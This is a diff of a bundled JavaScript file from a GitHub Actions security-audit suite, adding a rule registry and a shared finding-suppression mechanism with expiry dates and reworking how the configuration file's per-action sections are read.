   $v: () => (/* reexport */ EMPTY_CONFIG),
   RG: () => (/* reexport */ FULL_SHA),
+  UD: () => (/* reexport */ RuleRegistry),
   yo: () => (/* reexport */ UserError),
   IX: () => (/* reexport */ actionsRuntime),
   c7: () => (/* reexport */ classifyRunsOn),
   uP: () => (/* reexport */ createFinding),
+  x0: () => (/* reexport */ defineRules),
   gg: () => (/* reexport */ describeApiError),
   eL: () => (/* reexport */ findTyposquat),
   O5: () => (/* reexport */ findUses),
@@ -12361,11 +12327,12 @@ __nccwpck_require__.d(__webpack_exports__, {
   BU: () => (/* reexport */ yaml_parseYamlFile),
   lN: () => (/* reexport */ pythonFileKind),
   Gc: () => (/* reexport */ renderMarkdown),
+  fD: () => (/* reexport */ rulesOf),
   Cs: () => (/* reexport */ runAction),
   VN: () => (/* reexport */ runMain)
 });
 
-// UNUSED EXPORTS: ANNOTATIONS_PER_LEVEL, CONFIDENCES, FAIL_ON, FINGERPRINT_KEY, Inputs, SARIF_SCHEMA, SECURITY_SEVERITY, SEVERITIES, SPEC_CLAUSES, SUMMARY_LIMIT, TOOL_URI, VERSION, annotationsFor, apiUrlsFromEnv, applyConfig, buildReport, codeSpan, createGitHubClient, disambiguateFingerprints, discoverWorkflowFiles, escapeInvisible, escapeMarkdown, fileError, findFiles, fingerprintOf, highest, inputEnvName, isPopularPackage, isRateLimitError, isSpecClause, jobRunners, loadConfig, locationText, logicalLines, meetsThreshold, nameFromUrl, normalizeName, onSecretRegistered, parseEnvironmentYml, parsePep508, parsePoetryLock, parsePylock, parsePyproject, parseRequirements, parseTomlFile, parseUsesValue, parseUvLock, parseVcsUrl, pinnedVersion, rank, readCommonInputs, readEvent, readYamlFile, redact, registerSecret, renderText, sarifLevel, sortFindings, specLabel, summaryMarkdown, tally, toSarif, today, writeJsonReport, writeSarif, yamlError
+// UNUSED EXPORTS: ANNOTATIONS_PER_LEVEL, CONFIDENCES, FAIL_ON, FINGERPRINT_KEY, Inputs, RULE_ID, SARIF_SCHEMA, SECURITY_SEVERITY, SEVERITIES, SPEC_CLAUSES, SUMMARY_LIMIT, TOOL_URI, VERSION, annotationsFor, apiUrlsFromEnv, applyConfig, applySuppressions, buildReport, codeSpan, createGitHubClient, disambiguateFingerprints, discoverWorkflowFiles, escapeInvisible, escapeMarkdown, fileError, findFiles, fingerprintOf, highest, inputEnvName, isCalendarDate, isPopularPackage, isRateLimitError, isSpecClause, jobRunners, loadConfig, locationText, logicalLines, markerTag, meetsThreshold, nameFromUrl, normalizeName, onSecretRegistered, parseEnvironmentYml, parsePep508, parsePoetryLock, parsePylock, parsePyproject, parseRequirements, parseTomlFile, parseUsesValue, parseUvLock, parseVcsUrl, pinnedVersion, rank, readCommonInputs, readEvent, readYamlFile, redact, registerSecret, renderText, sarifLevel, sortFindings, specLabel, summaryMarkdown, tally, toSarif, today, upsertMarked, writeJsonReport, writeSarif, yamlError
 
 ;// CONCATENATED MODULE: ./packages/core/src/severity.ts
 // Severities are ordered; every threshold comparison goes through rank() so
@@ -12520,6 +12487,89 @@ function tally(findings) {
     return { active, suppressed, bySeverity, highest: highest(findings.filter(findings_isActive).map((f) => f.severity)) };
 }
 
+;// CONCATENATED MODULE: ./packages/core/src/rules.ts
+const RULE_ID = /^[a-z0-9]+(?:-[a-z0-9]+)*(?:\/[a-z0-9]+(?:-[a-z0-9]+)*)*$/;
+/**
+ * Declares a set of rules under the names the code uses for them. The result
+ * maps each name to a complete, frozen `Rule`; `rulesOf` lists them.
+ */
+function defineRules(rules) {
+    const out = {};
+    for (const [key, r] of Object.entries(rules)) {
+        if (!RULE_ID.test(r.id))
+            throw new Error(`rule ${key}: id '${r.id}' is not kebab-case with '/' separators`);
+        if (!r.spec.length)
+            throw new Error(`rule ${r.id}: names no SPEC clause`);
+        const group = r.group ?? (r.id.includes('/') ? r.id.slice(0, r.id.indexOf('/')) : r.id);
+        out[key] = Object.freeze({ ...r, group, spec: Object.freeze([...r.spec]) });
+    }
+    return Object.freeze(out);
+}
+/** The rules of a `defineRules` result (or several), in declaration order. */
+function rulesOf(...sets) {
+    return sets.flatMap((s) => Object.values(s));
+}
+/**
+ * The rules one component (an action, the core's workflow audit) can raise,
+ * by id. `aliases` maps retired ids to current ones, so a config written for
+ * an old id keeps working (and says so).
+ */
+class RuleRegistry {
+    owner;
+    #byId = new Map();
+    #aliases = new Map();
+    constructor(owner, rules, aliases = {}) {
+        this.owner = owner;
+        for (const r of rules) {
+            const other = this.#byId.get(r.id);
+            if (other && other !== r)
+                throw new Error(`${owner}: rule id '${r.id}' is declared twice`);
+            this.#byId.set(r.id, r);
+        }
+        for (const [old, current] of Object.entries(aliases)) {
+            if (this.#byId.has(old))
+                throw new Error(`${owner}: '${old}' is both a rule and an alias`);
+            if (!this.#byId.has(current))
+                throw new Error(`${owner}: alias '${old}' names unknown rule '${current}'`);
+            this.#aliases.set(old, current);
+        }
+    }
+    /** Several registries as one; an id declared by two owners is an error (the same Rule object shared is not). */
+    static combine(owner, registries) {
+        const rules = [];
+        const from = new Map();
+        const aliases = {};
+        for (const reg of registries) {
+            for (const r of reg.list()) {
+                const seen = from.get(r.id);
+                if (seen && rules.find((x) => x.id === r.id) !== r)
+                    throw new Error(`rule id '${r.id}' is declared by both ${seen} and ${reg.owner}`);
+                if (!seen)
+                    rules.push(r);
+                from.set(r.id, reg.owner);
+            }
+            Object.assign(aliases, Object.fromEntries(reg.#aliases));
+        }
+        return new RuleRegistry(owner, rules, aliases);
+    }
+    get(id) {
+        return this.#byId.get(id) ?? this.#byId.get(this.#aliases.get(id) ?? '');
+    }
+    has(id) {
+        return this.get(id) !== undefined;
+    }
+    /** The current id for a retired one, or undefined. */
+    renamed(id) {
+        return this.#aliases.get(id);
+    }
+    list() {
+        return [...this.#byId.values()];
+    }
+    get aliases() {
+        return Object.fromEntries(this.#aliases);
+    }
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/errors.ts
 // Errors meant for the user: one line, naming the file (and line) or input at
 // fault, never a stack trace and never a secret.
@@ -12656,13 +12706,10 @@ class Inputs {
 
 // EXTERNAL MODULE: ./node_modules/ajv/dist/ajv.js
 var ajv = __nccwpck_require__(2463);
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(4006);
-var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
 var dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./packages/core/schema/config.schema.json
-const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"definitions":{"propertyMatch":{"description":"A custom property and the value (or values) that mark a repository.","type":"object","additionalProperties":false,"required":["property","value"],"properties":{"property":{"type":"string","minLength":1},"value":{"oneOf":[{"type":"string","minLength":1},{"type":"array","minItems":1,"items":{"type":"string","minLength":1}}]}}}},"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1},"allowed-apps":{"description":"GitHub App slugs approved to be installed on all repositories with write access (org/app-broad-write is not reported for them).","type":"array","items":{"type":"string","minLength":1}},"require-signed-commits":{"description":"Repositories (names or globs; true: all) whose default branch must require signed commits (repo/signed-commits-not-required). Default: not checked.","oneOf":[{"type":"boolean"},{"type":"array","items":{"type":"string","minLength":1}}]},"custom-properties":{"description":"Organization custom properties that mark repositories: exempt ones are not audited, critical ones have every finding raised one severity.","type":"object","additionalProperties":false,"properties":{"exempt":{"$ref":"#/definitions/propertyMatch"},"critical":{"$ref":"#/definitions/propertyMatch"}}}}},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"}}}');
+const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"definitions":{"propertyMatch":{"description":"A custom property and the value (or values) that mark a repository.","type":"object","additionalProperties":false,"required":["property","value"],"properties":{"property":{"type":"string","minLength":1},"value":{"oneOf":[{"type":"string","minLength":1},{"type":"array","minItems":1,"items":{"type":"string","minLength":1}}]}}}},"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1},"allowed-apps":{"description":"GitHub App slugs approved to be installed on all repositories with write access (org/app-broad-write is not reported for them).","type":"array","items":{"type":"string","minLength":1}},"require-signed-commits":{"description":"Repositories (names or globs; true: all) whose default branch must require signed commits (repo/signed-commits-not-required). Default: not checked.","oneOf":[{"type":"boolean"},{"type":"array","items":{"type":"string","minLength":1}}]},"custom-properties":{"description":"Organization custom properties that mark repositories: exempt ones are not audited, critical ones have every finding raised one severity.","type":"object","additionalProperties":false,"properties":{"exempt":{"$ref":"#/definitions/propertyMatch"},"critical":{"$ref":"#/definitions/propertyMatch"}}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}}}}');
 ;// CONCATENATED MODULE: ./packages/core/src/yaml.ts
 // YAML with source positions, shared by the config loader and the workflow
 // readers so every YAML error reads the same: `file:line: message`.
@@ -12695,11 +12742,83 @@ function yamlError(doc, text, file) {
     return fileError(file, line, `invalid YAML: ${e.message.split('\n')[0].replace(/ at line \d+, column \d+:?$/, '')}`);
 }
 
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __nccwpck_require__(4006);
+var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
+;// CONCATENATED MODULE: ./packages/core/src/suppress.ts
+// The one suppression mechanism of the suite. Every way a maintainer can
+// silence a finding (the config file's `ignores`, an action section such as
+// verify-deps' advisory ignores or pr-anomaly-scan's content-hash allowlist,
+// access-audit's per-check exemptions, an inline comment) becomes a
+// SuppressionEntry, and the shared runner applies them all here, once, with
+// one expiry rule: an expired entry suppresses nothing and says so.
+
+const fold = (v) => String(v)
+    .toLowerCase()
+    .replace(/[-_.]+/g, '-');
+function propertiesMatch(f, want) {
+    return Object.entries(want).every(([k, v]) => {
+        const have = f.properties?.[k];
+        if (have === undefined || have === null)
+            return false;
+        return (Array.isArray(have) ? have : [have]).some((h) => fold(h) === fold(v));
+    });
+}
+/** Whether an entry names something more specific than a rule and a path. */
+const isSpecific = (e) => e.fingerprint !== undefined || e.line !== undefined || Object.keys(e.properties ?? {}).length > 0;
+/**
+ * Suppresses the findings the entries match (the first unexpired match wins;
+ * a finding already suppressed keeps its suppression). Returns notes for
+ * entries that matched but had expired: their findings stand.
+ */
+function applySuppressions(findings, entries, opts) {
+    if (!entries.length)
+        return { findings, notes: [] };
+    const matchers = entries.map((e) => ({ e, path: e.path ? picomatch_default()(e.path, { dot: true }) : undefined }));
+    const expired = new Set();
+    const out = findings.map((f) => {
+        if (f.suppression)
+            return f;
+        for (const { e, path } of matchers) {
+            if (e.rule && e.rule !== f.ruleId)
+                continue;
+            if (e.fingerprint && e.fingerprint !== f.fingerprint)
+                continue;
+            if (path && !(f.location && path(f.location.file)))
+                continue;
+            if (e.line !== undefined && f.location?.line !== e.line)
+                continue;
+            if (e.properties && !propertiesMatch(f, e.properties))
+                continue;
+            if (!isSpecific(e) && opts.pathIgnorable && !opts.pathIgnorable(f.ruleId))
+                continue;
+            if (e.expires && e.expires < opts.today) {
+                expired.add(e);
+                continue;
+            }
+            return {
+                ...f,
+                suppression: { kind: e.kind ?? 'external', reason: e.reason, expires: e.expires, source: e.source }
+            };
+        }
+        return f;
+    });
+    const notes = [...expired].map((e) => `The ignore at ${e.source} expired on ${e.expires}; its findings are reported again. Renew it with a new date or fix the findings.`);
+    return { findings: out, notes };
+}
+/** A calendar date as written (YYYY-MM-DD) that exists: 2025-02-30 does not. */
+function isCalendarDate(d) {
+    const t = Date.parse(`${d}T00:00:00Z`);
+    return /^\d{4}-\d{2}-\d{2}$/.test(d) && !Number.isNaN(t) && new Date(t).toISOString().slice(0, 10) === d;
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/config.ts
 // The per-repository configuration file (.github/security-actions.yml):
 // severity overrides and ignores shared by every action, plus one section per
 // action. Validated against the JSON Schema shipped beside this package (the
-// same file editors use for completion); errors name the file and line.
+// same file editors use for completion), which scripts/config-schema.mjs
+// assembles from the core's part and each action's section; errors name the
+// file and line.
 
 
 
@@ -12707,6 +12826,7 @@ function yamlError(doc, text, file) {
 
 
 const DEFAULT_CONFIG_PATH = '.github/security-actions.yml';
+const CORE_KEYS = new Set(['version', 'rules', 'ignores']);
 const EMPTY_CONFIG = { rules: {}, ignores: [], sections: {} };
 // Compiled on first use: compiling costs tens of milliseconds at start-up,
 // and most repositories have no config file.
@@ -12741,10 +12861,11 @@ function parseConfig(text, file) {
             throw fileError(file, node?.range ? lineCounter.linePos(node.range[0]).line : undefined, `ignores.${i}.expires: '${ig.expires}' is not a real date (YYYY-MM-DD)`);
         }
     });
+    // Every other top-level key is an action's section; the schema (assembled from each action's own) checked its shape.
     const sections = {};
-    for (const k of ['pr-anomaly-scan', 'verify-deps', 'access-audit', 'sign-release']) {
-        if (data[k])
-            sections[k] = data[k];
+    for (const [k, v] of Object.entries(data)) {
+        if (!CORE_KEYS.has(k) && v && typeof v === 'object')
+            sections[k] = v;
     }
     return { file, rules: data.rules ?? {}, ignores, sections };
 }
@@ -12759,10 +12880,6 @@ function pathOf(e) {
         .slice(1)
         .map((p) => p.replace(/~1/g, '/').replace(/~0/g, '~'))
         .map((p) => (/^\d+$/.test(p) ? Number(p) : p));
-}
-function isCalendarDate(d) {
-    const t = Date.parse(`${d}T00:00:00Z`);
-    return !Number.isNaN(t) && new Date(t).toISOString().slice(0, 10) === d;
 }
 /** The key node (not the value) of `key` in a mapping. */
 function keyNodeAt(map, key) {
@@ -12803,43 +12920,17 @@ function describe(e) {
     }
 }
 /**
- * Applies severity overrides and ignores. Ignores whose expiry has passed are
- * not applied: their findings come back and a note says so. `pathIgnorable`
- * rules only accept ignores that name a line or a fingerprint.
+ * Applies severity overrides, then every suppression: the config file's
+ * ignores first, then `extra` (entries from an action's own config section or
+ * inline comments). Expired entries are not applied: their findings come back
+ * and a note says so.
  */
 function applyConfig(findings, config, opts) {
-    const notes = [];
-    const matchers = config.ignores.map((ig) => ({ ig, path: ig.path ? picomatch_default()(ig.path, { dot: true }) : undefined }));
-    const expiredUsed = new Set();
-    const out = findings.map((f) => {
+    const overridden = findings.map((f) => {
         const override = Object.hasOwn(config.rules, f.ruleId) ? config.rules[f.ruleId] : undefined;
-        let g = override ? { ...f, severity: override.severity } : f;
-        if (g.suppression)
-            return g; // an inline suppression already applies
-        for (const { ig, path } of matchers) {
-            if (ig.rule && ig.rule !== g.ruleId)
-                continue;
-            if (ig.fingerprint && ig.fingerprint !== g.fingerprint)
-                continue;
-            if (path && !(g.location && path(g.location.file)))
-                continue;
-            if (ig.line !== undefined && g.location?.line !== ig.line)
-                continue;
-            if (!ig.fingerprint && ig.line === undefined && opts.pathIgnorable && !opts.pathIgnorable(g.ruleId))
-                continue;
-            if (ig.expires && ig.expires < opts.today) {
-                expiredUsed.add(ig);
-                continue;
-            }
-            g = { ...g, suppression: { kind: 'external', reason: ig.reason, expires: ig.expires, source: ig.source } };
-            break;
-        }
-        return g;
+        return override ? { ...f, severity: override.severity } : f;
     });
-    for (const ig of expiredUsed) {
-        notes.push(`The ignore at ${ig.source} expired on ${ig.expires}; its findings are reported again. Renew it with a new date or fix the findings.`);
-    }
-    return { findings: out, notes };
+    return applySuppressions(overridden, [...config.ignores, ...(opts.extra ?? [])], opts);
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/markdown.ts
@@ -13234,7 +13325,8 @@ function buildReport(name, result, opts) {
     const pathIgnorable = new Map(result.rules.map((r) => [r.id, r.pathIgnorable !== false]));
     const applied = applyConfig(disambiguateFingerprints(result.findings), opts.config, {
         today: opts.today,
-        pathIgnorable: (id) => pathIgnorable.get(id) ?? true
+        pathIgnorable: (id) => pathIgnorable.get(id) ?? true,
+        extra: result.suppressions
     });
     return {
         tool: { name: 'security-actions', version: VERSION, uri: TOOL_URI },
@@ -13915,6 +14007,9 @@ async function runAction(def, runner) {
     // Redacted once here, so the SARIF, the JSON report, the summary and what
     // publish() posts never carry a secret an engine copied into a message.
     const report = redactDeep(buildReport(def.name, { ...result, stats, errors: [...errors, ...(result.errors ?? [])] }, { config: result.config ?? config, today: ctx.today, startedAt, finishedAt: runtime.now() }));
+    const derived = redactDeep(def.summarise?.(report) ?? {});
+    Object.assign(report.stats, derived.stats ?? {});
+    const preamble = [result.preamble, derived.preamble].filter(Boolean).join('\n\n') || undefined;
     // Every report is written before anything can fail the step.
     const t = tally(report.findings);
     const written = [];
@@ -13938,7 +14033,7 @@ async function runAction(def, runner) {
         : '';
     const markdown = summaryMarkdown(report, {
         fullReport: `the JSON report (${common.reportFile})`,
-        preamble: result.preamble,
+        preamble,
         footer
     });
     await runtime
@@ -13948,7 +14043,7 @@ async function runAction(def, runner) {
     runtime.setOutput('highest-severity', t.highest);
     runtime.setOutput('sarif-file', written.includes('SARIF') ? common.sarifFile : '');
     runtime.setOutput('report-file', written.includes('JSON report') ? common.reportFile : '');
-    for (const [k, v] of Object.entries(result.outputs ?? {}))
+    for (const [k, v] of Object.entries({ ...result.outputs, ...derived.outputs }))
         runtime.setOutput(k, v);
     if (def.publish && inputsValid) {
         try {
@@ -16344,6 +16439,9 @@ function findTyposquat(name) {
 // Public surface of the shared core. Actions and the CLI import from here;
 // Sigstore verification is the separate entry '@security-actions/core/sigstore'
 // so that actions which never verify a bundle do not load sigstore-js.
+
+
+
 
 
 
